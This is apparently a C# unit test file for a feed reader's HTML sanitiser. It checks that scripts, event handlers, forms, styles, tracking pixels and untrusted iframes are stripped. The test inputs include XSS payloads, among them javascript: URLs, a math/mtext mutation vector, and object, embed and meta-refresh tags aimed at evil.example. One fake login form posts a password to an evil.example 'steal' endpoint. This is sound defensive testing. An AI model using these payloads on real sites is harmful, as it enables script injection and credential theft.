using FeedHub.Markup;
using FeedHub.Parsing;

namespace FeedHub.Tests.Markup;

public sealed class HtmlCleanerTests
{
    private static readonly Uri Base = new("https://news.example.com/posts/1");
    private readonly HtmlCleaner _cleaner = new();

    [Fact]
    public void Clean_RemovesActiveContentAndResolvesUrls()
    {
        var clean = _cleaner.Clean("""<p onclick="x()">Hi <a href="../about">us</a><script>alert(1)</script><img src="a.png" onerror="x()"></p>""", Base);

        Assert.Equal("""<p>Hi <a href="https://news.example.com/about">us</a><img src="https://news.example.com/posts/a.png"></p>""", clean);
    }

    [Fact]
    public void Clean_RemovesFormsAndInlineStyles()
    {
        var clean = _cleaner.Clean(
            """<form action="https://evil.example/steal"><input type="password" name="p"><button>Log in</button></form><div style="position:fixed;top:0;color:red">Overlay</div>""",
            Base);

        Assert.DoesNotContain("<form", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<input", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("<button", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("style", clean, StringComparison.Ordinal);
        Assert.Contains("<div>Overlay</div>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Clean_KeepsVideoPlayersOnly_DropsPixels_AndStripsTracking()
    {
        var clean = _cleaner.Clean(
            """
            <iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>
            <iframe src="https://ads.example/frame"></iframe>
            <iframe src="http://www.youtube.com/embed/plain-http"></iframe>
            <img src="https://cdn.example/pixel.gif" width="1" height="1">
            <img src="https://cdn.example/photo.jpg" width="640">
            <a href="https://news.example.com/story?id=7&utm_source=feed&utm_medium=rss&fbclid=x#top">story</a>
            """,
            Base)!;

        Assert.Contains("<iframe src=\"https://www.youtube.com/embed/abc\"", clean, StringComparison.Ordinal);
        Assert.Contains("sandbox=", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("ads.example", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("plain-http", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("pixel.gif", clean, StringComparison.Ordinal);
        Assert.Contains("photo.jpg", clean, StringComparison.Ordinal);
        Assert.Contains("href=\"https://news.example.com/story?id=7#top\"", clean, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""<a href="javascript:alert(1)">x</a>""")]
    [InlineData("""<a href="  jAvAsCrIpT:alert(1)">x</a>""")]
    [InlineData("""<img src="data:image/svg+xml;base64,PHN2Zz4=">""")]
    [InlineData("""<svg><script>alert(1)</script></svg>""")]
    [InlineData("""<math><mtext><img src=x onerror=alert(1)></mtext></math>""")]
    [InlineData("""<div style="background:url(javascript:alert(1))">x</div>""")]
    [InlineData("""<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">""")]
    [InlineData("""<meta http-equiv="refresh" content="0;url=https://evil.example">""")]
    public void Clean_LetsNoActiveContentThrough(string html)
    {
        var clean = _cleaner.Clean(html, Base) ?? string.Empty;

        Assert.DoesNotMatch("(?i)javascript:|onerror|<script|<object|<embed|<meta|data:|alert", clean);
    }

    [Fact]
    public void Clean_KeepsOnlyTheTextOfHostilelyDeepMarkup()
    {
        var depth = 100_000;
        var html = string.Concat(Enumerable.Repeat("<div>", depth)) + "deep <b>text</b>" + string.Concat(Enumerable.Repeat("</div>", depth));

        var clean = _cleaner.Clean(html, Base);

        Assert.Equal("deep text", clean!.Trim().Replace("  ", " ", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<p>a<p>b<p>c<br><br><img src=x>", 0)]
    [InlineData("<div><div><span>x</span></div></div>", 3)]
    [InlineData("<div><br/><div/></div>", 2)]
    [InlineData("<div/><div/><div/>", 3)]
    [InlineData("<div></q><div></q>", 2)]
    public void NestingDepth_CountsOnlyElementsThatNeedClosing(string html, int depth)
    {
        Assert.Equal(depth, HtmlCleaner.NestingDepth(html));
    }
}
